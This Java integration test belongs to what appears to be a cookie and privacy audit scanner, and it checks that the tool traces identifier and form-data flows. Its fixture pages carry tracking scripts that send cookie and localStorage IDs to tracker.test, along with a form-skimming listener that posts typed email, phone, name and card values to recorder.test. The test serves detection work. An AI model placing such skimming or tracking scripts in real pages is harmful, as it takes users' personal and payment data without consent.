package io.cookieaudit.scan;

import static org.assertj.core.api.Assertions.assertThat;

import io.cookieaudit.scan.browser.FixtureSite;
import io.cookieaudit.scan.browser.FixtureSite.Reply;
import io.cookieaudit.scan.browser.TestBrowser;
import io.cookieaudit.scan.json.ObservationJson;
import io.cookieaudit.scan.observe.Conduct;
import io.cookieaudit.scan.observe.ConsentState;
import io.cookieaudit.scan.observe.Flow;
import io.cookieaudit.scan.observe.Interaction;
import io.cookieaudit.scan.observe.Observation;
import io.cookieaudit.scan.observe.ObservedRequest;
import io.cookieaudit.scan.observe.Persona;
import io.cookieaudit.scan.observe.Redaction;
import io.cookieaudit.scan.observe.Tool;
import io.cookieaudit.scan.observe.Visit;
import java.net.URI;
import java.time.Duration;
import java.time.InstantSource;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.concurrent.atomic.AtomicInteger;
import org.junit.jupiter.api.Test;

/** Who is told of whom, on invented sites whose every request is known. */
class FlowsIT {
  private static final Persona PERSONA =
      new Persona(
          Map.of(
              Persona.Kind.EMAIL, "canary.bird@mail.example",
              Persona.Kind.PHONE, "+49 30 5550 1234",
              Persona.Kind.NAME, "Canary Bird",
              Persona.Kind.CARD, "4000056655665556"));

  private static Observation scan(
      FixtureSite site, String path, int profiles, Optional<Persona> persona) {
    ScanRequest request =
        new ScanRequest(
            List.of(site.url("shop.test", path)),
            List.of(ConsentState.NO_CHOICE),
            List.of(),
            2,
            Duration.ofSeconds(8),
            Interaction.USUAL,
            profiles,
            persona,
            Duration.ofMinutes(5),
            List.of(),
            Conduct.USUAL,
            TestBrowser.with(site.options()),
            new Redaction(new byte[32], false));
    try (Scanner scanner =
        new Scanner(new Tool("test", "none"), InstantSource.system(), line -> {}, request)) {
      return scanner.scan();
    }
  }

  /** Each flow as {@code from → host/path, encoding}. */
  private static List<String> told(Visit visit) {
    return visit.flows().stream()
        .map(flow -> flow.from() + " → " + goal(visit, flow) + ", " + flow.encoding())
        .distinct()
        .sorted()
        .toList();
  }

  private static String goal(Visit visit, Flow flow) {
    return visit.requests().stream()
        .filter(request -> request.id().equals(flow.to()))
        .map(ObservedRequest::url)
        .map(URI::create)
        .map(url -> url.getHost() + url.getPath())
        .findFirst()
        .orElse(flow.to());
  }

  private static final String IDENTIFIERS =
      """
      <!doctype html><html lang="en"><meta charset="utf-8"><title>A shop</title><body>
      <h1>A shop</h1><a href="/second">More</a>
      <script>
        const bytes = n => [...crypto.getRandomValues(new Uint8Array(n))];
        const hex = list => list.map(b => b.toString(16).padStart(2, '0')).join('');
        const kept = name => (document.cookie.match(new RegExp(name + '=([^;]*)')) || [])[1];
        const keep = (name, make) => {
          if (!kept(name)) document.cookie = name + '=' + make() + '; path=/; max-age=9999';
          return kept(name);
        };
        // One number in forty has so few different digits that it is rightly taken for no identifier.
        const number = () => {
          const drawn = String(4e9 + Math.floor(Math.random() * 5e9));
          return new Set(drawn).size < 6 ? number() : drawn;
        };
        const uid = keep('uid', () => '1.' + number() + '.' + Math.floor(Date.now() / 1000));
        const own = keep('own', () => hex(bytes(8)));
        const lang = keep('lang', () => 'en-GB');
        const day = keep('day', () => new Date().toISOString());
        const few = keep('few', () => Math.floor(Math.random() * 90000 + 10000));
        const build = keep('build', () => '7c1e9b04aa53d2f8');
        localStorage.seen = localStorage.seen || hex(bytes(16));
        const changing = hex(bytes(8));
        document.cookie = 'page=' + changing + '; path=/';
        const part = uid.split('.')[1];
        const send = (path, text) => fetch('https://tracker.test' + path, {method: 'POST', mode: 'no-cors', body: text});
        new Image().src = 'https://tracker.test/plain.gif?cid=' + part + '&l=' + lang + '&d=' + day + '&f=' + few + '&b=' + build + '&p=' + changing;
        send('/base64', 'data=' + btoa(JSON.stringify({seen: localStorage.seen})));
        send('/empty', 'h=e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855');
        fetch('/own-server?own=' + own + '&cid=' + part);
        crypto.subtle.digest('SHA-256', new TextEncoder().encode(localStorage.seen))
          .then(hash => send('/sha256', hex([...new Uint8Array(hash)])));
        addEventListener('pagehide', () => navigator.sendBeacon('https://tracker.test/leaving', 'u=' + own));
      </script>
      <script src="https://sync.test/start.js"></script></body></html>
      """;

  /** The syncing party hands its own identifier on to another one by a redirect. */
  private static FixtureSite shop() {
    String[] ids = {"b7e151628aed2a6a", "243f6a8885a308d3"};
    AtomicInteger visitors = new AtomicInteger();
    FixtureSite site = FixtureSite.start();
    return site.on("shop.test", "/", Reply.html(IDENTIFIERS))
        .on("shop.test", "/second", Reply.html(IDENTIFIERS))
        .on("shop.test", "/own-server", Reply.text("text/plain", "ok"))
        .on("tracker.test", "/plain.gif", Reply.pixel())
        .on(
            "sync.test",
            "/start.js",
            Reply.script(
                "if (!localStorage.synced) { new Image().src = 'https://sync.test/s'; }"
                    + "localStorage.synced = '1';"))
        .on(
            "sync.test",
            "/s",
            request -> {
              String id = ids[visitors.getAndIncrement() % 2];
              return Reply.redirect("https://partner.test/match?u=" + id)
                  .cookie("sid=" + id + "; Secure; SameSite=None");
            })
        .on("partner.test", "/match", Reply.pixel());
  }

  @Test
  void identifiersAreFollowedToWhomTheyAreSentAndNothingElseIs() {
    try (FixtureSite site = shop()) {
      Observation seen = scan(site, "/", 2, Optional.empty());

      assertThat(seen.gaps()).isEmpty();
      assertThat(seen.settings().profiles()).isEqualTo(2);
      assertThat(seen.visits()).extracting(Visit::id).containsExactly("no-choice", "no-choice-2");
      for (Visit visit : seen.visits()) {
        assertThat(told(visit))
            .containsExactly(
                "cookie/own@shop.test → tracker.test/leaving, PLAIN",
                "cookie/sid@sync.test → partner.test/match, PLAIN",
                "cookie/uid@shop.test → tracker.test/plain.gif, PLAIN",
                "local-storage/seen@shop.test → tracker.test/base64, BASE64",
                "local-storage/seen@shop.test → tracker.test/sha256, SHA_256");
      }
    }
  }

  @Test
  void whatIsTypedIsFollowedAndNeverSentNorKept() {
    String form =
        """
        <!doctype html><html lang="en"><meta charset="utf-8"><title>A shop</title><body>
        <h1>A shop</h1>
        <form action="/submitted" method="post">
          <label for="m">E-mail</label><input id="m">
          <input type="tel" name="contact"><input name="x" autocomplete="cc-number">
          <label>Your name <input name="y"></label>
          <input type="password" name="p" placeholder="e-mail"><input type="hidden" name="email">
          <input name="email2" style="display:none"><input name="search">
          <button>Send</button></form>
        <iframe src="https://pay.test/frame"></iframe>
        <script>
          addEventListener('change', event => fetch('https://recorder.test/keys', {
            method: 'POST', mode: 'no-cors', body: event.target.name + '=' + event.target.value}));
          m.addEventListener('input', () => localStorage.setItem('draft', m.value));
          addEventListener('pagehide', () => {
            const filled = [...document.querySelectorAll('input')].filter(f => f.value).length;
            navigator.sendBeacon('https://recorder.test/filled/' + filled, 'n=1');
          });
        </script></body></html>
        """;
    try (FixtureSite site =
        FixtureSite.start()
            .on("shop.test", "/form", Reply.html(form))
            .on(
                "pay.test",
                "/frame",
                Reply.html(
                    "<input type=email oninput=\"fetch('https://pay.test/read?' + this.value)\">"))) {
      Observation seen = scan(site, "/form", 1, Optional.of(PERSONA));

      Visit visit = seen.visits().getFirst();
      assertThat(seen.settings().persona()).containsExactly("email", "phone", "name", "card");
      assertThat(told(visit))
          .containsExactly(
              "persona/card → recorder.test/keys, PLAIN",
              "persona/email → local-storage/draft@shop.test, PLAIN",
              "persona/email → recorder.test/keys, PLAIN",
              "persona/name → recorder.test/keys, PLAIN",
              "persona/phone → recorder.test/keys, PLAIN");
      assertThat(site.requests())
          .extracting(FixtureSite.Request::path)
          .contains("/filled/4")
          .doesNotContain("/submitted", "/read");
      assertThat(ObservationJson.write(seen)).doesNotContain("canary.bird");
    }
  }
}
